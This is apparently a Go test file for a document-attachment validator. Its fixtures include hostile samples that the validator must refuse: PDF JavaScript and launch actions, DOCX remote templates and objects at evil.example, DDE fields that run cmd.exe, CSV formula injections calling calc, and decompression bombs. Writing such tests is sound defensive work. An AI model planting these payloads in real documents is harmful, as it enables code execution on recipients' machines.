package attachment_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/zlib"
	"fmt"
	"io"
	"strings"
	"testing"

	"communique/storage/attachment"
)

// pdf is a small document with some objects in it.
func pdf(objects string) []byte {
	return []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + objects + "\ntrailer << /Root 1 0 R >>\n%%EOF\n")
}

// packed is an object of a PDF with a compressed stream.
func packed(dictionary, data string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = io.WriteString(w, data)
	_ = w.Close()
	return fmt.Sprintf("2 0 obj\n<< /Filter /FlateDecode %s /Length %d >>\nstream\n%s\nendstream\nendobj", dictionary, b.Len(), b.String())
}

// packedTwice is an object of a PDF with a stream that was compressed twice.
func packedTwice(data string) string {
	var b bytes.Buffer
	outer := zlib.NewWriter(&b)
	inner := zlib.NewWriter(outer)
	_, _ = io.WriteString(inner, data)
	_, _ = inner.Close(), outer.Close()
	return fmt.Sprintf("2 0 obj\n<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream\nendobj", b.Len(), b.String())
}

// part is a part of an office document.
type part struct{ name, text string }

func office(parts ...part) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	z.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) { return flate.NewWriter(w, flate.BestSpeed) })
	for _, p := range parts {
		w, _ := z.Create(p.name)
		_, _ = io.WriteString(w, p.text)
	}
	_ = z.Close()
	return b.Bytes()
}

func odt(more ...part) []byte {
	return office(append([]part{{"mimetype", "application/vnd.oasis.opendocument.text"}, {"content.xml", "<office:document-content/>"}}, more...)...)
}

func docx(more ...part) []byte {
	return office(append([]part{{"[Content_Types].xml",
		`<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
	}, {"word/document.xml", "<w:document/>"}}, more...)...)
}

func xlsx(more ...part) []byte {
	return office(append([]part{{"[Content_Types].xml",
		`<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
	}, {"xl/workbook.xml", "<workbook/>"}}, more...)...)
}

// TestNames: each name that is refused is told what is wrong with it.
func TestNames(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		".x.csv":        "begins with a dot",
		".csv":          "begins with a dot",
		"a:b.csv":       "has a character that file names must not have",
		"fdp\u202e.csv": "has a character that file names must not have",
	} {
		if _, err := attachment.Read(name, []byte("a,b\n")); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, want %q", name, err, want)
		}
	}
}

func TestRead(t *testing.T) {
	t.Parallel()
	zeros := strings.Repeat("\x00", 40<<20)
	for name, c := range map[string]struct {
		file    string
		content []byte
		want    string // the media type
		refused string // a part of the error
	}{
		"pdf":                                                    {"annex.pdf", pdf(""), "application/pdf", ""},
		"pdf in capitals":                                        {"Annex.PDF", pdf(""), "application/pdf", ""},
		"pdf in a folder":                                        {"2026/Zusatz zum Vertrag.pdf", pdf(""), "application/pdf", ""},
		"pdf with a page":                                        {"a.pdf", pdf(packed("", "BT (/JavaScript) Tj ET")), "application/pdf", ""},
		"pdf that speaks of scripts":                             {"a.pdf", pdf("3 0 obj << /Title (What /JavaScript \\) and /Launch do) >> endobj % /JS"), "application/pdf", ""},
		"pdf with a script":                                      {"a.pdf", pdf("3 0 obj << /S /JavaScript /JS (app.alert) >> endobj"), "", "scripts"},
		"pdf with a script in codes":                             {"a.pdf", pdf("3 0 obj << /S /J#61vaScript >> endobj"), "", "scripts"},
		"pdf with a script, packed":                              {"a.pdf", pdf(packed("/Type /ObjStm /N 1", "3 0 << /S /JavaScript >>")), "", "scripts"},
		"pdf with an open string":                                {"a.pdf", pdf("3 0 obj ( << /S /JavaScript >> endobj"), "", "scripts"},
		"pdf with a script, not packed":                          {"a.pdf", pdf("2 0 obj << /Type /ObjStm /N 1 /Length 30 >>\nstream\n3 0 << /S /JavaScript >>\nendstream endobj"), "", "scripts"},
		"pdf with a script behind a string":                      {"a.pdf", pdf("3 0 obj (stream) endobj 4 0 obj << /S /JavaScript >> endobj 5 0 obj (endstream) endobj"), "", "scripts"},
		"pdf with a script behind a comment in a string":         {"a.pdf", pdf("3 0 obj (stream %) endobj 4 0 obj << /S /Java#53cript >> endobj 5 0 obj (endstream) endobj"), "", "scripts"},
		"pdf whose objects are packed otherwise":                 {"a.pdf", pdf("2 0 obj << /Type /Obj#53tm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n789c>\nendstream endobj"), "", "nobody can look"},
		"pdf whose objects are packed with another's difference": {"a.pdf", pdf(packed("/Type /ObjStm /DecodeParms << /Predictor 12 >>", "x")), "", "nobody can look"},
		"pdf with a form of scripts":                             {"a.pdf", pdf("3 0 obj << /AcroForm << /XFA 4 0 R >> >> endobj"), "", "scripts"},
		"pdf that is an archive, too":                            {"a.pdf", append(pdf(""), office(part{"a.class", "x"})...), "", "archive as well"},
		"pdf that launches":                                      {"a.pdf", pdf("3 0 obj << /S /Launch /F (calc.exe) >> endobj"), "", "starts programs"},
		"pdf with a film":                                        {"a.pdf", pdf("3 0 obj << /Subtype /RichMedia >> endobj"), "", "films"},
		"pdf with a file":                                        {"a.pdf", pdf("3 0 obj << /Names << /EmbeddedFiles 4 0 R >> >> endobj"), "", "other files inside"},
		"pdf with a password":                                    {"a.pdf", pdf("trailer << /Encrypt 9 0 R >>"), "", "encrypted"},
		"pdf cut off":                                            {"a.pdf", pdf("")[:40], "", "cut off"},
		"pdf that unpacks for ever":                              {"a.pdf", pdf(strings.Repeat(packed("", zeros)+"\n", 14)), "", "unpacks to far more"},
		"pdf that is packed twice and unpacks for ever":          {"a.pdf", pdf(strings.Repeat(packedTwice(zeros)+"\n", 14)), "", "unpacks to far more"},
		"pdf that is packed twice":                               {"a.pdf", pdf(packedTwice("0 0 1 rg")), "application/pdf", ""},
		"pdf that is packed again and again":                     {"a.pdf", pdf("2 0 obj << /Filter [/Fl /Fl /FlateDecode /Fl] >>\nstream\nx\nendstream endobj"), "", "nobody can look"},
		"pdf by name":                                            {"a.pdf", []byte("<!DOCTYPE html><p>no"), "", "looks like a page in HTML"},
		"pdf, really a document":                                 {"a.pdf", odt(), "", "not a PDF, as its name says: it looks like a ZIP archive"},
		"odt":                                                    {"a.odt", odt(), "application/vnd.oasis.opendocument.text", ""},
		"odt with macros":                                        {"a.odt", odt(part{"Basic/Standard/Module1.xml", "Sub"}), "", "macros"},
		"odt with scripts":                                       {"a.odt", odt(part{"Scripts/python/a.py", "import os"}), "", "macros"},
		"odt with a password":                                    {"a.odt", odt(part{"META-INF/manifest.xml", "<manifest:encryption-data/>"}), "", "encrypted"},
		"odt, really a spreadsheet":                              {"a.ods", odt(), "", "not a document of that kind"},
		"odt that unpacks for ever":                              {"a.odt", odt(part{"Pictures/a.png", zeros}), "", "unpacks to far more"},
		"odt without a text":                                     {"a.odt", office(part{"mimetype", "application/vnd.oasis.opendocument.text"}), "", "not a document of that kind"},
		"docx":                                                   {"a.docx", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ""},
		"docx with macros":                                       {"a.docx", docx(part{"word/vbaProject.bin", "x"}), "", "macros"},
		"docx with macros, declared":                             {"a.docx", office(part{"[Content_Types].xml", "application/vnd.ms-word.document.macroEnabled.main+xml"}), "", "macros"},
		"docx with an object":                                    {"a.docx", docx(part{"word/embeddings/oleObject1.bin", "x"}), "", "objects inside"},
		"docx with a chart's table":                              {"a.docx", docx(part{"word/embeddings/sheet1.xlsx", "x"}), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ""},
		"docx with a remote template":                            {"a.docx", docx(part{"word/_rels/settings.xml.rels", `<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`}), "", "template"},
		"docx with macros by another path":                       {"a.docx", docx(part{`word\vbaProject.bin`, "x"}), "", "macros"},
		"docx with macros by another name":                       {"a.docx", office(part{"[Content_Types].xml", `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>`}, part{"word/x.bin", "x"}), "", "macros"},
		"docx with a remote template in references":              {"a.docx", docx(part{"word/_rels/settings.xml.rels", `<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attached&#84;emplate" Target='https&#58;//evil.example/t.dotm' TargetMode="External"/>`}), "", "template"},
		"docx with a remote object":                              {"a.docx", docx(part{"word/_rels/document.xml.rels", `<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="https://evil.example/a.html!" TargetMode="External"/>`}), "", "objects inside"},
		"docx with a part from elsewhere":                        {"a.docx", docx(part{"word/_rels/document.xml.rels", `<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="https://evil.example/a.html" TargetMode="External"/>`}), "", "objects inside"},
		"docx that starts a program":                             {"a.docx", docx(part{"word/footer1.xml", `<w:p><w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe &quot;/k&quot;"/></w:p>`}), "", "(DDE)"},
		"docx that starts a program by a divided field":          {"a.docx", docx(part{"word/footer1.xml", `<w:p><w:instrText> DD</w:instrText><w:instrText>E&#65;UTO cmd</w:instrText></w:p>`}), "", "(DDE)"},
		"docx with a field":                                      {"a.docx", docx(part{"word/footer1.xml", `<w:p><w:fldSimple w:instr=" PAGE "/><w:instrText>REF DDEX</w:instrText><w:t>DDE c</w:t></w:p>`}), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ""},
		"xlsx with macros in a sheet":                            {"a.xlsx", xlsx(part{"xl/macrosheets/sheet1.xml", "<x/>"}), "", "macros"},
		"xlsx that starts a program":                             {"a.xlsx", xlsx(part{"xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}), "", "(DDE)"},
		"xlsx":                                                   {"a.xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", ""},
		"docx with a link":                                       {"a.docx", docx(part{"word/_rels/document.xml.rels", `<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://mfa.example/" TargetMode="External"/>`}), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ""},
		"docx behind a program":                                  {"a.docx", append([]byte("MZ\x90"), docx()...), "", "looks like a program"},
		"odt behind a page":                                      {"a.odt", append([]byte("<!DOCTYPE html><script>"), odt()...), "", "looks like a page in HTML"},
		"docx that is a zip":                                     {"a.docx", office(part{"a.txt", "x"}), "", "not a document of that kind"},
		"docx with a password":                                   {"a.docx", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "", "encrypted"},
		"docx damaged":                                           {"a.docx", docx()[:60], "", "damaged"},
		"txt":                                                    {"a.txt", []byte("Rede\n\nÜber Äpfel\tund Birnen\r\n"), "text/plain", ""},
		"txt in latin-1":                                         {"a.txt", []byte("one\nR\xfcckblick"), "", "line 2 of it is not UTF-8"},
		"txt in utf-16":                                          {"a.txt", []byte("\xff\xfea\x00"), "", "UTF-16"},
		"txt, really a program":                                  {"a.txt", []byte("MZ\x90\x00"), "", "looks like a program"},
		"txt with controls":                                      {"a.txt", []byte("one\x1b[2J"), "", "control character"},
		"csv":                                                    {"a.csv", []byte("\ufeffyear,aid\n2026,\"-1,5\"\n2027,+49 30 1234\n2028,-\n@ministry,x\n"), "text/csv", ""},
		"csv with semicolons":                                    {"a.csv", []byte("Jahr;Hilfe\n2026;1,5\n"), "text/csv", ""},
		"csv with a formula":                                     {"a.csv", []byte("year,aid\n2026,\"=SUM(A1:A9)\"\n"), "", "line 2 of it has a formula in cell 2"},
		"csv that calls a program":                               {"a.csv", []byte("a;b\n1;+cmd|' /C calc'!A0\n"), "", "formula"},
		"csv with a function":                                    {"a.csv", []byte("@SUM(1+9)*cmd|' /C calc'!A0\n"), "", "formula"},
		"csv that runs where semicolons divide":                  {"a.csv", []byte("a,b,c\nx;=cmd|'/C calc'!A1;y,2,3\n"), "", "line 2 of it has a formula in cell 2"},
		"csv that runs where commas divide":                      {"a.csv", []byte("a;b;c\nx,=cmd|'/C calc'!A1,y;2;3\n"), "", "formula"},
		"csv with signs in its words":                            {"a.csv", []byte("port,remark\nSund,\"open; -2 (ships) a day; and more\"\n"), "text/csv", ""},
		"ics":                                                    {"a.ics", []byte("BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"), "text/calendar", ""},
		"ics with a program":                                     {"a.ics", []byte("BEGIN:VCALENDAR\nACTION:PROCEDURE\nEND:VCALENDAR"), "", "starts a program"},
		"ics with a program in a folded line":                    {"a.ics", []byte("BEGIN:VCALENDAR\r\nACTION;X-A=b:PROC\r\n EDURE\r\nEND:VCALENDAR"), "", "starts a program"},
		"ics that speaks of a program":                           {"a.ics", []byte("BEGIN:VCALENDAR\r\nSUMMARY:The ACTION:PROCEDURE of old\r\nEND:VCALENDAR"), "text/calendar", ""},
		"ics cut off":                                            {"a.ics", []byte("BEGIN:VCALENDAR\n"), "", "not a calendar"},
		"empty":                                                  {"a.pdf", nil, "", "empty"},
		"a program":                                              {"a.exe", []byte("MZ"), "", "what does is PDF"},
		"an old document":                                        {"a.doc", []byte("\xd0\xcf"), "", "save it as .docx"},
		"macros by name":                                         {"a.docm", docx(), "", "save it as .docx"},
		"no extension":                                           {"annex", pdf(""), "", "what does is PDF"},
		"two extensions":                                         {"a.pdf.exe", pdf(""), "", "what does is PDF"},
		"a name that turns round":                                {"a\u202efdp.pdf", pdf(""), "", "rename it"},
		"a name with a colon":                                    {"a:b.pdf", pdf(""), "", "rename it"},
		"a hidden name":                                          {".a.pdf", pdf(""), "", "rename it"},
		"a long name":                                            {strings.Repeat("ü", 80) + ".pdf", pdf(""), "", "longer than 150 bytes"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f, err := attachment.Read(c.file, c.content)
			switch {
			case c.refused == "" && (err != nil || f.Type != c.want):
				t.Errorf("it is %q (%v), want %q", f.Type, err, c.want)
			case c.refused != "" && (err == nil || !strings.Contains(err.Error(), c.refused)):
				t.Errorf("error %v, want one with %q", err, c.refused)
			}
		})
	}
}

// FuzzRead: whatever is handed in is taken or refused, and what is taken is what its
// name says.
func FuzzRead(f *testing.F) {
	f.Add("a.pdf", pdf(packed("/Type /ObjStm", "/JS")))
	f.Add("a.odt", odt())
	f.Add("a.docx", docx())
	f.Add("a.csv", []byte("a;b\n=1"))
	f.Fuzz(func(t *testing.T, name string, content []byte) {
		file, err := attachment.Read(name, content)
		if err == nil && (file.Type != attachment.TypeOf(name) || len(file.Content) == 0 || strings.Contains(file.Name, "/")) {
			t.Errorf("%q was taken as %q, %s", name, file.Name, file.Type)
		}
	})
}
